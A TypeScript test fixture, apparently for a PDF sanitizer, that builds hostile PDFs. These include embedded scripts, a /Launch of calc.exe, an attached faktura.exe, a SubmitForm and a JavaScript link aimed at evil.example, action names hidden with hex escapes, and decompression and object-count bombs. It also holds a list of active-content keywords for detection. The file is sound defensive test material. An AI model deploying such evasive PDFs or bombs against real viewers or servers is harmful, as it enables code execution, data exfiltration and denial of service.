import { deflateSync, inflateSync } from 'node:zlib';
import { PDFArray, PDFDocument, PDFName, PDFNumber, PDFRawStream, PDFString, type PDFDict, type PDFRef } from 'pdf-lib';

/**
 * Hostile PDFs made in the test setup with pdf-lib's low-level objects (decisions 102, 103): each as
 * the red-team pass wrote it. Names a viewer decodes but pdf-lib does not (`/#4aS`) are written
 * with a same-length placeholder and swapped in the saved bytes, so every offset stays right.
 */
export interface HostilePdf {
  name: string;
  bytes: Uint8Array;
}

const VISIBLE = 'Årsregnskap 2025 – synlig tekst';

async function base(build: (doc: PDFDocument, page: PDFDict) => void): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText(VISIBLE, { x: 50, y: 780, size: 14 });
  build(doc, page.node);
  return doc.save({ useObjectStreams: false });
}

/** Replaces placeholders by strings of the same length in the file's bytes. */
function swap(bytes: Uint8Array, pairs: [string, string][]): Uint8Array {
  let text = Buffer.from(bytes).toString('latin1');
  for (const [from, to] of pairs) {
    if (from.length !== to.length) throw new Error(`${from} and ${to} differ in length`);
    if (!text.includes(from)) throw new Error(`${from} not in the file`);
    text = text.replaceAll(from, to);
  }
  return new Uint8Array(Buffer.from(text, 'latin1'));
}

const stream = (doc: PDFDocument, text: string, dict: Record<string, unknown> = {}) => doc.context.register(doc.context.flateStream(text, dict as never));
const name = (doc: PDFDocument, value: string): PDFRef => doc.context.register(PDFName.of(value));

export async function hostileCorpus(): Promise<HostilePdf[]> {
  const corpus: HostilePdf[] = [];
  const add = async (title: string, build: (doc: PDFDocument, page: PDFDict) => void, pairs: [string, string][] = []) => {
    corpus.push({ name: title, bytes: swap(await base(build), pairs) });
  };
  await add('XFA form with a script (/AcroForm /XFA)', (doc) => {
    const xfa = stream(doc, '<xdp:xdp><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template></xdp:xdp>');
    doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: [PDFString.of('template'), xfa] }));
  });
  await add('FileAttachment annotation with /EF', (doc, page) => {
    const file = stream(doc, 'MZ-not-really-a-program', { Type: 'EmbeddedFile' });
    const spec = doc.context.obj({ Type: 'Filespec', F: PDFString.of('faktura.exe'), EF: { F: file } });
    page.set(PDFName.of('Annots'), doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [50, 50, 80, 80], FS: spec })]));
  });
  await add('an /EmbeddedFiles names tree', (doc) => {
    const spec = doc.context.obj({ Type: 'Filespec', F: PDFString.of('vedlegg.txt'), EF: { F: stream(doc, 'hemmelig vedlegg') } });
    doc.catalog.set(PDFName.of('Names'), doc.context.obj({ EmbeddedFiles: { Names: [PDFString.of('vedlegg.txt'), spec] } }));
  });
  await add('/OpenAction with /S 6 0 R → /Launch', (doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: name(doc, 'Launch'), F: PDFString.of('calc.exe') })));
  await add('/OpenAction with /S 6 0 R → /SubmitForm', (doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: name(doc, 'SubmitForm'), F: PDFString.of('https://evil.example/samle') })));
  await add(
    'a link whose action is /S 6 0 R → /JavaScript, the script under /#4aS',
    (doc, page) => {
      const action = doc.context.obj({ S: name(doc, 'JavaScript'), Xxxx: PDFString.of('app.launchURL("https://evil.example")') });
      page.set(PDFName.of('Annots'), doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action })]));
    },
    [['/Xxxx', '/#4aS']],
  );
  await add(
    'an OpenAction written /#53 /#4aava#53cript with the script under /#4aS',
    (doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ Qqq: PDFName.of('Jjjjjjjjjjjjjj'), Xxxx: PDFString.of('app.alert(1)') })),
    [['/Qqq', '/#53'], ['/Jjjjjjjjjjjjjj', '/#4aava#53cript'], ['/Xxxx', '/#4aS']],
  );
  await add('a page /AA that runs a script when the page opens', (doc, page) => page.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } })));
  await add('a RichMedia annotation', (doc, page) => {
    const content = doc.context.obj({ Assets: { Names: [] }, Configurations: [] });
    page.set(PDFName.of('Annots'), doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 100, 100], RichMediaContent: content })]));
  });
  return corpus;
}

/** An object stream that inflates to `megabytes` MB of spaces: what the server once parsed on its event loop. */
export async function inflationBomb(megabytes: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]).drawText(VISIBLE, { x: 50, y: 780, size: 14 });
  const payload = Buffer.concat([Buffer.from('1 0 '), Buffer.alloc(megabytes * 1024 * 1024, 0x20), Buffer.from('null')]);
  const compressed = deflateSync(payload, { level: 9 });
  const dict = doc.context.obj({ Type: 'ObjStm', N: 1, First: 4, Filter: 'FlateDecode', Length: compressed.length });
  doc.context.register(doc.context.stream(compressed, dict as never));
  return doc.save({ useObjectStreams: false });
}

/** An object stream declaring more objects than any real document has. */
export async function objectBomb(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]);
  const count = 300_000;
  const header = Array.from({ length: count }, (_, i) => `${i + 1000} ${i * 2}`).join(' ');
  const body = `${header} ${'0 '.repeat(count)}`;
  const compressed = deflateSync(Buffer.from(body));
  doc.context.register(doc.context.stream(compressed, doc.context.obj({ Type: 'ObjStm', N: PDFNumber.of(count), First: header.length + 1, Filter: 'FlateDecode' }) as never));
  return doc.save({ useObjectStreams: false });
}

/** Every name in the file's dictionaries as a viewer reads it (either case of `#xx`): a reading independent of pdf-active.ts. */
export function namesInFile(bytes: Uint8Array): Set<string> {
  const text = Buffer.from(bytes).toString('latin1');
  return new Set([...text.matchAll(/\/([^\s/<>[\]()%{}]+)/g)].map((m) => m[1]!.replace(/#([0-9a-fA-F]{2})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)))));
}
export const ACTIVE_WORDS = ['JS', 'JavaScript', 'Launch', 'SubmitForm', 'EmbeddedFiles', 'EmbeddedFile', 'EF', 'XFA', 'AcroForm', 'OpenAction', 'AA', 'Annots', 'RichMedia', 'RichMediaContent', 'FileAttachment', 'Filespec', 'Names'];

/** Each page's content streams, inflated and joined: what a viewer draws. */
export async function drawn(bytes: Uint8Array): Promise<string[]> {
  const doc = await PDFDocument.load(bytes);
  return doc.getPages().map((page) => {
    const contents = page.node.Contents();
    const refs = contents instanceof PDFArray ? contents.asArray() : contents ? [page.node.get(PDFName.of('Contents'))!] : [];
    return refs
      .map((ref) => doc.context.lookup(ref))
      .map((stream) => (stream instanceof PDFRawStream ? (stream.dict.has(PDFName.of('Filter')) ? inflateSync(Buffer.from(stream.contents)) : Buffer.from(stream.contents)).toString('latin1') : ''))
      .join('\n');
  });
}

export { VISIBLE };
